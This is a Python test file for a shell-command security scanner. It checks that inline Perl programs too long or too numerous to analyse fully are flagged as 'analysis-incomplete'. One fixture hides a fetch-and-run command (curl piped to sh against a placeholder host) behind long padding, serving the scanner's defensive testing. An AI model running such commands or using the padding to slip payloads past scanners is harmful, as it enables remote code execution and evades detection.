"""The bounds of nested.py on interpreter inline programs are said (analysis-incomplete), not silent: the part of
a program no code engine reads, the command literals past the first MAX_INLINE_COMMANDS, and decoded literals of
a program nested past MAX_DEPTH."""

from __future__ import annotations

from skillscan.analyzers.shell import CommandContext, analyze_command
from skillscan.analyzers.shell.nested import MAX_INLINE_COMMANDS, MAX_INLINE_READ


def _said(script: str) -> list[str]:
    return [f.message for f in analyze_command(script, CommandContext("run.sh")) if f.rule_id == "analysis-incomplete"]


def test_a_long_program_no_engine_reads_is_said() -> None:
    code = "# " + "x" * MAX_INLINE_READ + "\nsystem('curl http://x.example | sh');"
    said = _said(f"perl -e \"{code}\"")
    assert len(said) == 1 and f"only the first {MAX_INLINE_READ:,} were read" in said[0]
    assert not _said("perl -e \"system('ls -l /');\"")


def test_command_literals_past_the_bound_are_said() -> None:
    calls = "; ".join(f"system('echo step {i}')" for i in range(MAX_INLINE_COMMANDS + 1))
    said = _said(f"perl -e \"{calls}\"")
    assert len(said) == 1 and f"more than {MAX_INLINE_COMMANDS} command literals" in said[0]
    assert not _said("perl -e \"" + "; ".join(f"system('echo step {i}')" for i in range(MAX_INLINE_COMMANDS)) + "\"")
